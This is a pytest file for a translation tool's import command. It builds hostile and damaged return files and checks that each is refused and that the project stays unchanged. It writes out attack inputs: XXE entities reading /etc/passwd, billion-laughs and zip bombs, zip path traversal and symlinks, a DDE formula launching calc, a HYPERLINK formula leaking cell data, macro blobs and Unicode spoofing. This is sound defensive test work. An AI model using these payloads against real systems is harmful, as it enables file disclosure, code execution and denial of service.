"""The catalogue of hostile and damaged files: each is refused with plain words, and not a byte of the content changes.

What is printed for a case stands in tests/parcel/hostile/. `PRESS_ACCEPT=1 pytest tests/parcel/test_hostile.py` accepts
what is printed now; look at the difference before you commit it.
"""

from __future__ import annotations

import os
import re
import shutil
import stat
import warnings
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

import docx
import hands
import openpyxl
import pytest
from hands import GOAL, MARKED_TEXT, MISSING_TEXT, NAME, STALE_TEXT, Work, done, saved, zipped
from office_parcels import changed, packed, parts

from press import cli
from press.problem import Exit

PRINTED = Path(__file__).parent / "hostile"
DOCUMENT, SHEET, BOOK = "word/document.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
REACHING = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
OUTSIDE = '<!DOCTYPE x SYSTEM "https://example.org/x.dtd">'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY x "&b;&b;&b;&b;">]>'
NEW = "To strengthen the Oslo region as an innovative and sustainable region in Europe."

Files = dict[str, bytes]
"""The files of the parcel, by how their names end."""
Case = tuple[str, Callable[[Files], bytes]]
"""What the file is called that comes back, and its bytes."""


@pytest.fixture(scope="module")
def sent(unadopted: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Files]:
    """A project in which three parts wait in English, one of them with marks, and its parcel."""
    root = Path(shutil.copytree(unadopted, tmp_path_factory.mktemp("sendt") / "prosjekt"))
    hands.lag(root)
    hands.mark(root)
    return root, hands.parcel(root)


def text(name: str, *pairs: tuple[str, str]) -> Case:
    """Texts of a file changed to others, the first time that they stand there."""

    def make(files: Files) -> bytes:
        said = files[name].decode()
        for old, new in pairs:
            assert old in said, f"{old!r} is not in the {name}"
            said = said.replace(old, new, 1)
        return said.encode()

    return f"retur.{name}", make


def target(name: str, pattern: str, new: str) -> Case:
    """What stands in a target of the file changed."""

    def make(files: Files) -> bytes:
        before, found, after = files[name].decode().partition("<target")
        made, count = re.subn(pattern, new, after, count=1)
        assert found
        assert count, f"{pattern!r} is not in a target of the {name}"
        return (before + found + made).encode()

    return f"retur.{name}", make


def worked(name: str, *works: Work) -> Case:
    """Work of a translator, with the program that it is done with."""
    return f"retur.{name}", lambda files: done(files[name], name, *works)


def part(name: str, inside: str, old: str, new: str) -> Case:
    """A part of a Word or Excel file changed."""
    return f"retur.{name}", lambda files: changed(files[name], inside, old, new)


def book(change: Callable[[Any], object]) -> Case:
    """The workbook changed and saved by another program; `change` is given the sheet of the texts."""

    def make(files: Files) -> bytes:
        found = openpyxl.load_workbook(BytesIO(files["xlsx"]))
        change(found.worksheets[0])
        return saved(found)

    return "retur.xlsx", make


def page(change: Callable[[Any], object]) -> Case:
    """The Word document changed and saved by another program; `change` is given the table of the texts."""

    def make(files: Files) -> bytes:
        found = docx.Document(BytesIO(files["docx"]))
        change(found.tables[0])
        return saved(found)

    return "retur.docx", make


def put(row: int, column: int, words: str, *, line: int = 0) -> Callable[[Any], object]:
    """Words in the place of those in a cell of a Word table."""
    return lambda table: setattr(table.rows[row].cells[column].paragraphs[line], "text", words)


def cell(name: str, value: object) -> Callable[[Any], object]:
    """A value in the place of the one in a cell of a sheet."""
    return lambda sheet: sheet.__setitem__(name, value)


def without(row: int) -> Callable[[Any], object]:
    """A row of a Word table deleted."""
    return lambda table: table._tbl.remove(table.rows[row]._tr)


def entry(name: str, **facts: int) -> zipfile.ZipInfo:
    """An entry of a zip with something uncommon about it."""
    made = zipfile.ZipInfo(name)
    for fact, value in facts.items():
        setattr(made, fact, value)
    return made


def packet(change: Callable[[zipfile.ZipFile, Files], object]) -> Case:
    """A zip of our files, with more in it."""

    def make(files: Files) -> bytes:
        made = BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings(action="ignore"):
            archive.writestr("retur.po", files["po"])
            change(archive, files)
        return made.getvalue()

    return "retur.zip", make


def whole(files: Files) -> bytes:
    return zipped({f"{NAME}.{name}": data for name, data in files.items()})


def encrypted(files: Files) -> bytes:
    data = bytearray(whole(files))
    data[data.index(b"PK\x01\x02") + 8] |= 1  # general purpose bit flag (APPNOTE.TXT, 4.4.4)
    return bytes(data)


def with_wrong_sum(files: Files) -> bytes:
    data = bytearray(whole(files))
    data[data.index(b"PK\x01\x02") + 16] ^= 255  # crc-32 (4.4.7)
    return bytes(data)


def entity(name: str, declared: str) -> Case:
    """A text file of XML that declares something, and uses it in a translation."""
    return text(name, ("?>\n", f"?>\n{declared}\n"), ("Oslo region", "&x;"))


def inside(name: str, where: str, declared: str) -> Case:
    """The same in a part of a Word or Excel file."""

    def make(files: Files) -> bytes:
        found = parts(files[name])
        head, end, body = found[where].partition(b">")
        assert head.startswith((b"<?xml", b"<"))
        made = head + end + declared.encode() + body if head.startswith(b"<?") else declared.encode() + found[where]
        return packed(found | {where: made})

    return f"retur.{name}", make


def bomb(name: str) -> Case:
    """A Word or Excel file with a picture that would fill the memory."""
    return f"retur.{name}", lambda files: packed(parts(files[name]) | {"media/image1.png": bytes(20_000_000)})


def macros(name: str, called: str) -> Case:
    return called, lambda files: packed(parts(files[name]) | {"vbaProject.bin": OLE})


def bare(called: str, data: bytes) -> Case:
    return called, lambda _: data


def said(words: str) -> Case:
    return worked("po", Work(STALE_TEXT, words))


LONG = "All that there is to say of this region. " * 122_000
OLD = "To strengthen the Oslo region as a competitive and sustainable region in Europe."
OTHERS_XLIFF = (
    '<?xml version="1.0"?><xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.2"><file '
    'original="brochure.docx" source-language="nb" target-language="en" datatype="x-docx"><body><trans-unit id="1">'
    "<source>Hei</source><target>Hello</target></trans-unit></body></file></xliff>"
)
OTHERS_PO = (
    'msgid ""\nmsgstr ""\n"Project-Id-Version: brochure 1.0\\n"\n"Language: en\\n"\n'
    '"Content-Type: text/plain; charset=UTF-8\\n"\n\nmsgid "Hei"\nmsgstr "Hello"\n'
)

CASES: dict[str, Case] = {
    "xliff-external-entity": entity("xlf", REACHING),
    "xliff-entity-bomb": entity("xlf", LAUGHS),
    "xliff-external-dtd": entity("xliff12.xlf", OUTSIDE),
    "word-external-entity": inside("docx", DOCUMENT, REACHING),
    "word-entity-bomb": inside("docx", DOCUMENT, LAUGHS),
    "excel-external-entity": inside("xlsx", SHEET, REACHING),
    "excel-entity-bomb": inside("xlsx", BOOK, LAUGHS),
    "zip-bomb": packet(lambda archive, _: archive.writestr("bomb.po", bytes(40_000_000))),
    "word-bomb": bomb("docx"),
    "excel-bomb": bomb("xlsx"),
    "zip-in-zip": ("retur.zip", lambda files: zipped({"retur.zip": whole(files)})),
    "zip-climbs-out": packet(lambda archive, files: archive.writestr("../content/en.po", files["po"])),
    "zip-absolute-name": packet(lambda archive, files: archive.writestr("/etc/passwd", b"x")),
    "zip-link": packet(
        lambda archive, _: archive.writestr(entry("x.po", external_attr=(stat.S_IFLNK | 0o777) << 16), "/etc/passwd")
    ),
    "zip-encrypted": ("retur.zip", encrypted),
    "zip-entry-twice": packet(lambda archive, files: archive.writestr("retur.po", files["po"] + b"\n")),
    "zip-wrong-sum": ("retur.zip", with_wrong_sum),
    "zip-cut-off": ("retur.zip", lambda files: whole(files)[:-400]),
    "zip-without-a-file-of-ours": ("retur.zip", lambda _: zipped({"notat.txt": b"Hei."})),
    "zip-two-files-worked-in": (
        "retur.zip",
        lambda files: whole(
            files
            | {
                "po": done(files["po"], "po", Work(STALE_TEXT, NEW)),
                "docx": done(files["docx"], "docx", Work(STALE_TEXT, OLD.replace("Europe", "the North"))),
            }
        ),
    ),
    "po-cut-off-in-an-entry": ("retur.po", lambda files: files["po"].partition(b'msgstr "To str')[0] + b'msgstr "To'),
    "po-cut-off-before-a-translation": ("retur.po", lambda files: files["po"].partition(b'msgstr "To str')[0]),
    "po-latin-1": ("retur.po", lambda files: files["po"].decode().encode("latin-1", "replace")),
    "po-utf-16": ("retur.po", lambda files: files["po"].decode().encode("utf-16")),
    "po-other-charset-in-the-header": text("po", ("charset=UTF-8", "charset=ISO-8859-1")),
    "po-context-twice": text("po", (f'msgctxt "{STALE_TEXT}"', f'msgctxt "{MARKED_TEXT}"')),
    "po-without-header": ("retur.po", lambda files: files["po"].partition(b"\n\n")[2]),
    "po-entry-gone": ("retur.po", lambda files: files["po"].rpartition(b"\n\n")[0] + b"\n"),
    "po-id-changed": text("po", (f'msgctxt "{STALE_TEXT}"', 'msgctxt "maal-7#text"')),
    "po-source-changed": text("po", ("nyskapende og", "nyskapende, grønn og")),
    "po-of-another-program": bare("retur.po", OTHERS_PO.encode()),
    "po-of-another-document": text("po", (f"Project-Id-Version: {NAME}/", "Project-Id-Version: vedtekter/")),
    "xliff-cut-off": ("retur.xlf", lambda files: files["xlf"][:-200]),
    "xliff-of-another-program": bare("retur.xlf", OTHERS_XLIFF.encode()),
    "xliff-of-another-document": text("xlf", (f'original="{NAME}/', 'original="vedtekter/')),
    "xliff-into-another-language": text("xlf", ('trgLang="en"', 'trgLang="de"')),
    "xliff-id-changed": text("xlf", ('id="maal-2.text"', 'id="maal-20.text"')),
    "xliff-source-changed": text("xliff12.xlf", ("nyskapende og", "nyskapende, grønn og")),
    "xliff-unit-gone": ("retur.xlf", lambda files: re.sub(rb'(?s)<unit id="maal-2.*?</unit>', b"", files["xlf"])),
    "xliff-unit-twice": (
        "retur.xlf",
        lambda files: re.sub(rb'(?s)(<unit id="maal-2.*?</unit>)', rb"\1\1", files["xlf"]),
    ),
    "xliff-code-gone": target("xlf", "<pc [^>]*>goal</pc>", "goal"),
    "xliff-code-renumbered": target("xlf", 'id="2"', 'id="1"'),
    "xliff12-code-gone": target("xliff12.xlf", "<g [^>]*>goal</g>", "goal"),
    "xliff12-code-unknown": target("xliff12.xlf", 'id="1"', 'id="12"'),
    "excel-formula-that-runs-a-program": book(cell("C3", "=cmd|' /C calc'!A0")),
    "excel-formula-that-is-a-link": book(cell("C3", '=HYPERLINK("https://example.org/?" & A1, "To strengthen")')),
    "excel-number": book(cell("C3", 46)),
    "excel-heading-renamed": book(cell("C1", "English")),
    "excel-cells-merged": book(lambda sheet: sheet.merge_cells("B3:C3")),
    "excel-row-deleted": book(lambda sheet: sheet.delete_rows(3)),
    "excel-id-changed": book(cell("A3", "maal-2")),
    "excel-source-changed": book(cell("B3", "Å styrke Osloregionen.")),
    "excel-status-unknown": book(cell("D3", "finished")),
    "excel-sheet-press-removed": book(lambda sheet: sheet.parent.remove(sheet.parent["Press"])),
    "excel-is-csv": bare("retur.xlsx", "Id;Source;Translation\nmaal-2#text;Å styrke;To strengthen\n".encode()),
    "excel-macros": macros("xlsx", "retur.xlsx"),
    "word-macros": macros("docx", "retur.docx"),
    "word-with-macros-by-its-name": macros("docx", "retur.docm"),
    "word-third-column": page(lambda table: table.add_column(table.columns[0].width)),
    "word-row-deleted": page(without(2)),
    "word-source-edited": page(put(2, 0, "Å styrke Osloregionen.", line=1)),
    "word-id-edited": page(put(2, 0, "maal-2")),
    "word-status-unknown": page(put(2, 1, "finished")),
    "word-cells-merged": page(lambda table: table.rows[2].cells[0].merge(table.rows[2].cells[1])),
    "word-is-doc": bare("retur.docx", OLE),
    "word-is-rtf": bare("retur.docx", b"{\\rtf1\\ansi To strengthen}"),
    "word-cut-off": ("retur.docx", lambda files: files["docx"][:20_000]),
    "text-lone-star": worked("docx", Work(MARKED_TEXT, GOAL.replace("*goal*", "*goal"))),
    "text-other-link": worked("po", Work(MARKED_TEXT, GOAL.replace("example.org", "example.com"))),
    "text-footnote-lost": worked("xlsx", Work(MARKED_TEXT, GOAL.replace("^[A note.]", ""))),
    "text-control-character": part("xlsx", SHEET, "To strengthen the", "To strengthen_x0007_ the"),
    "text-zero-width": said(OLD.replace("Oslo", "Os\u200blo")),
    "text-direction-turned": said(OLD.replace("Europe", "\u202eepor\u202c")),
    "text-letters-in-two": said(OLD.replace("Oslo", "A\u030aslo")),
    "text-comment-with-signs-unseen": worked("xlf", Work(STALE_TEXT, comment="Rett?\u200b")),
    "text-quotes-alone": worked("docx", Work(MARKED_TEXT, GOAL.replace("‘", "'").replace("’", "'"))),
    "text-no-break-space-lost": worked("po", Work(MARKED_TEXT, GOAL.replace("\u00a0", " "))),
    "text-without-glyphs": said(OLD.replace("Europe", "欧洲")),
    "text-number-changed": worked("xlsx", Work(MARKED_TEXT, GOAL.replace("10\u00a0000", "11\u00a0000"))),
    "text-of-five-megabytes": said(LONG),
    "text-of-five-megabytes-in-word": worked("docx", Work(STALE_TEXT, LONG)),
    "text-too-long-for-a-block": said(LONG[:50_000]),
    "everything-at-once": (
        "retur.po",
        lambda files: done(
            text("po", ("nyskapende og", "grønn og"))[1](files),
            "po",
            Work(MARKED_TEXT, "*goal"),
            Work(MISSING_TEXT, "x\u200b"),
        ),
    ),
    "file-of-another-kind": bare("retur.pdf", b"%PDF-1.7\n"),
    "file-empty": bare("retur.xlf", b""),
    "file-without-an-ending": bare("retur", b""),
    "file-far-too-large": bare("retur.zip", b"PK\x03\x04" + bytes(50_000_000)),
}


def printed(root: Path, path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[str, int]:
    """What `make parcel-in` prints, and how it ends; of five megabytes, the bytes around the text are left out."""
    code = cli.main(["--root", str(root), "parcel-in", "--file", str(path)])
    captured = capsys.readouterr()
    words = (captured.out + captured.err).replace(str(path.parent), "…")
    return re.sub(r"\b5,0\d\d,\d{3}\b", "5,0…", words), code


def expected(name: str, words: str) -> str:
    path = PRINTED / f"{name}.txt"
    if os.environ.get("PRESS_ACCEPT"):
        path.parent.mkdir(exist_ok=True)
        path.write_text(words, encoding="utf-8", newline="\n")
    assert path.is_file(), f"no {path.name}; it would be:\n{words}"
    return path.read_text(encoding="utf-8")


@pytest.mark.parametrize("name", CASES)
def test_it_is_refused_in_plain_words_and_nothing_changes(
    name: str, sent: tuple[Path, Files], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root, files = sent
    called, make = CASES[name]
    path = tmp_path / called
    path.write_bytes(make(files))
    before = hands.content(root)
    words, code = printed(root, path, capsys)
    assert hands.content(root) == before
    assert code == Exit.CONTENT
    assert words == expected(name, words)


@pytest.mark.parametrize("name", ["file-missing", "file-is-a-folder"])
def test_what_is_no_file_is_a_mistake_of_the_command(
    name: str, sent: tuple[Path, Files], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "retur"
    if name == "file-is-a-folder":
        path.mkdir()
    words, code = printed(sent[0], path, capsys)
    assert code == Exit.USAGE
    assert words == expected(name, words)


def test_the_catalogue_is_whole() -> None:
    names = {path.stem for path in PRINTED.iterdir()}
    assert names == {*CASES, "file-missing", "file-is-a-folder"}
    assert len(CASES) >= 30


def last_row_first(table: Any) -> None:
    table._tbl.insert(table._tbl.index(table.rows[1]._tr), table.rows[-1]._tr)


def sorted_rows(sheet: Any) -> None:
    rows = [[one.value for one in row] for row in sheet.iter_rows(min_row=2)]
    for number, row in enumerate(reversed(rows), 2):
        for column, value in enumerate(row, 1):
            sheet.cell(number, column).value = value


def units_moved(files: Files) -> bytes:
    return re.sub(rb"(?s)(<unit .*?</unit>)(\s*)(<unit .*?</unit>)", rb"\3\2\1", files["xlf"], count=1)


def entries_moved(files: Files) -> bytes:
    head, *entries = files["po"].decode().rstrip("\n").split("\n\n")
    return ("\n\n".join([head, *reversed(entries)]) + "\n").encode()


MOVED: dict[str, Case] = {
    "docx": page(last_row_first),
    "xlsx": book(sorted_rows),
    "xlf": ("retur.xlf", units_moved),
    "po": ("retur.po", entries_moved),
}


@pytest.mark.parametrize("name", MOVED)
def test_rows_that_were_moved_are_taken_as_if_they_stood_in_their_places(
    name: str, sent: tuple[Path, Files], tmp_path: Path
) -> None:
    root, files = sent
    ended = []
    for number, data in enumerate((files[name], MOVED[name][1](files))):
        copy = Path(shutil.copytree(root, tmp_path / str(number)))
        works = Work(STALE_TEXT, NEW), Work(MISSING_TEXT, "The cooperation shall ensure the best exchange.")
        came = hands.bring(copy, done(data, name, *works), name)
        ended.append((sorted(came.told), hands.content(copy)))
    assert files[name] != MOVED[name][1](files)
    assert ended[0] == ended[1]
